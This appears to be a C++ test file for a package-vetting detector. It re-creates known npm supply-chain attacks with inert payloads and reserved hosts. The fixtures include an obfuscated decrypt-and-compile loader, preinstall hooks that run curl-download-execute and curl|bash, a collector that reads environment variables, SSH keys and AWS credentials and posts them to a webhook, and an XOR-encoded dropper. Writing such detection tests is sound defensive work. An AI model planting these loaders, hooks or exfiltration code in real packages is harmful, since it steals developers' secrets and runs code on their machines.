// Flows of known incidents, written again with inert payloads and reserved hosts: the way they took is found, and the
// version before it is silent.
#include <string>

#include <gtest/gtest.h>

#include "judges/vet/flow/flow_fixture.h"

namespace ward::vet {
namespace {

// A test's data is decrypted with the description of the package that requires it, and compiled.
TEST(FlowIncidents, DecryptedTestDataIsCompiled) {
    const Flows flows =
        flows_of({{"index.min.js",
                   "var r = require, t = process.env;\n"
                   "function e(text) { return Buffer.from(text, 'hex').toString(); }\n"
                   "var n = r(e('2e2f746573742f64617461')), o = t[e(n[3])][e(n[4])];\n"
                   "if (o) {\n"
                   "  var u = r(e(n[2]))[e(n[6])](e(n[5]), o), a = u.update(n[0], e(n[8]), e(n[9]));\n"
                   "  a += u.final(e(n[9]));\n"
                   "  var f = new module.constructor();\n"
                   "  f.paths = module.paths, f[e(n[7])](a, ''), f.exports(n[1]);\n"
                   "}\n"},
                  {"test/data.js",
                   "module.exports = ['00', '00', '63727970746f', '00', '00', '00', '00', '00', '00', '00'];\n"}});
    EXPECT_EQ(flows.signals(), "S04");
    // The plain form: names are written out.
    EXPECT_EQ(signals_in("const crypto = require('crypto');\nconst data = require('./data.json');\n"
                         "const d = crypto.createDecipher('aes256', process.env.npm_package_description);\n"
                         "const code = d.update(data[0], 'hex', 'utf8') + d.final('utf8');\n"
                         "const m = new module.constructor();\nm._compile(code, '');\n"),
              "S04");
    EXPECT_EQ(signals_in("const data = require('./data.json');\nmodule.exports = (s) => s.split(data[0]);\n"), "");
}

// preinstall.js starts a shell script on Linux and downloads a program on Windows.
TEST(FlowIncidents, AnInstallScriptDownloads) {
    const Flows flows = flows_of({{"preinstall.js",
                                   "const { exec } = require('child_process');\n"
                                   "function terminal(error, stdout) { if (error) return; console.log(stdout); }\n"
                                   "const system = process.platform;\n"
                                   "if (system === 'win32') exec('start /B preinstall.bat', terminal);\n"
                                   "else if (system === 'linux') exec('/bin/bash preinstall.sh', terminal);\n"
                                   "exec('curl -s http://198.51.100.7/x -o /tmp/x && chmod +x /tmp/x && /tmp/x');\n"}});
    EXPECT_EQ(flows.signals(), "S08");
    EXPECT_EQ(signals_in("const { exec } = require('child_process');\nexec('node-gyp rebuild', () => {});\n"), "");
}

// Tokens of the environment and of files go to a webhook, in one bundle.
TEST(FlowIncidents, SecretsAreCollectedAndPosted) {
    const std::string collect =
        "const fs = require('fs'), os = require('os'), path = require('path');\n"
        "class Collector {\n"
        "  constructor() { this.found = { environment: {}, files: {}, system: {} }; }\n"
        "  async run() {\n"
        "    for (const [key, value] of Object.entries(process.env)) this.found.environment[key] = value;\n"
        "    for (const one of ['.npmrc', '.aws/credentials', '.ssh/id_rsa']) await this.file(one);\n"
        "    this.found.system = { host: os.hostname(), user: os.userInfo() };\n"
        "    return this.found;\n"
        "  }\n"
        "  async file(name) {\n"
        "    const where = path.join(os.homedir(), name);\n"
        "    try { this.found.files[name] = await fs.promises.readFile(where, 'utf8'); } catch {}\n"
        "  }\n"
        "}\n"
        "module.exports = Collector;\n";
    const Flows flows = flows_of(
        {{"bundle.js",
          "const Collector = require('./collect');\n"
          "async function main() {\n"
          "  const found = await new Collector().run();\n"
          "  const body = Buffer.from(Buffer.from(JSON.stringify(found)).toString('base64')).toString('base64');\n"
          "  await fetch('https://webhook.invalid/1', { method: 'POST', body });\n"
          "}\n"
          "main();\n"},
         {"collect.js", collect}});
    EXPECT_EQ(flows.signals(), "S02 S03");
    EXPECT_TRUE(flows.first("S03")->what.contains("the content of")) << flows.first("S03")->what;
    const Flows cut = flows_of({{"bundle.js",
                                 "const Collector = require('./collect');\n"
                                 "new Collector().run().then((found) => console.log(Object.keys(found).length));\n"
                                 "fetch('https://webhook.invalid/1', { method: 'POST', body: 'done' });\n"},
                                {"collect.js", collect}});
    EXPECT_EQ(cut.signals(), "S02");
}

// setup_bun.js fetches another runtime and runs the payload with it.
TEST(FlowIncidents, AnotherRuntimeIsFetched) {
    const Flows flows = flows_of(
        {{"setup_bun.js",
          "const { execSync, spawn } = require('child_process');\nconst path = require('path');\n"
          "async function main() {\n"
          "  if (process.platform === 'win32') execSync('powershell -c \"irm https://bun.invalid/install.ps1|iex\"');\n"
          "  else execSync('curl -fsSL https://bun.invalid/install | bash', { stdio: 'ignore' });\n"
          "  spawn('bun', [path.join(__dirname, 'bun_environment.js')], { stdio: 'ignore' });\n"
          "}\n"
          "main();\n"}});
    EXPECT_EQ(flows.signals(), "S08");
    EXPECT_EQ(signals_in("const { spawn } = require('child_process');\nspawn('bun', ['test.js']);\n"), "");
}

// A dropper: names and addresses are decoded by reversing, base64 and a cipher, and what comes is written and started.
TEST(FlowIncidents, ADropperWithACipher) {
    const Flows flows = flows_of(
        {{"setup.js",
          "const stored = ['bm9uZQ==', 'aHR0cDovL2NvZGUuaW52YWxpZC8='];\n"
          "const key = 'OrDeR_7077';\n"
          "function mix(text, k) {\n"
          "  const codes = k.split('').map(Number);\n"
          "  return text.split('').map((c, i) => String.fromCharCode(c.charCodeAt(0) ^ codes[7 * i * i % 10] ^ 333))"
          ".join('');\n"
          "}\n"
          "function open(text, k) {\n"
          "  const plain = text.split('').reverse().join('').replaceAll('_', '=');\n"
          "  return mix(Buffer.from(plain, 'base64').toString('utf8'), k);\n"
          "}\n"
          "const cp = require(open(stored[0], key));\n"
          "const https = require('https'), fs = require('fs');\n"
          "const to = require('path').join(require('os').tmpdir(), '6202033');\n"
          "https.get(open(stored[1], key), (answer) => {\n"
          "  const parts = [];\n"
          "  answer.on('data', (part) => parts.push(part));\n"
          "  answer.on('end', () => {\n"
          "    fs.writeFileSync(to, Buffer.concat(parts));\n"
          "    require('child_process').spawn('node', [to], { detached: true });\n"
          "  });\n"
          "});\n"}});
    EXPECT_EQ(flows.signals(), "S04 S08");
}

}  // namespace
}  // namespace ward::vet
